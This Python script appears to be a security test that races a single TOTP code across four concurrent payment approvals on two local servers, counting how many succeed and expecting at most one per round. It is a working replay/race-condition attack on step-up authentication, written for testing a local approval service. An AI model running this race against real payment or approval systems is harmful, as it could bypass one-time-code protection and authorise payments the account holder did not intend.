# one TOTP code raced on two approvals across two servers (alice, step_up)
import sys, threading, time, json
sys.path.insert(0, '/work/attack38/scripts'); from lib import *
BOT, ALICE, SECRET = ENV['bot'], ENV['alice'], ENV['alice_totp']
rounds = int(sys.argv[1]) if len(sys.argv) > 1 else 5
tag = str(int(time.time()))
wins_total = 0
for r in range(rounds):
    aps = []
    for i in range(4):
        s, j, _ = req(18091, 'POST', '/v1/decide', {'request_id': f'tr{tag}-{r}-{i}', 'action': 'pay.send', 'params': {'amount': 1, 'payee': f'p{i}'}}, token=BOT)
        aps.append((j['approval_id'], j['digest']))
    # wait for a fresh step start so both hit the same step
    while (time.time() % 30) > 25: time.sleep(0.5)
    code, step = totp(SECRET)
    res = [None]*4
    bar = threading.Barrier(4)
    def go(i):
        aid, dg = aps[i]
        bar.wait()
        res[i] = req(18091 + (i % 2), 'POST', f'/v1/approvals/{aid}/approve', {'digest': dg, 'totp': code}, token=ALICE)[:2]
    ts = [threading.Thread(target=go, args=(i,)) for i in range(4)]
    [t.start() for t in ts]; [t.join() for t in ts]
    wins = [x for x in res if x[0] == 200]
    wins_total += len(wins)
    print('round', r, 'step', step, [(x[0], (x[1].get('error', {}) or {}).get('code') if isinstance(x[1], dict) else x[1]) for x in res], flush=True)
    # wait for next step
    while int(time.time() // 30) == step: time.sleep(0.5)
print('total 200s', wins_total, 'of', rounds, 'rounds (must be <=', rounds, ')')
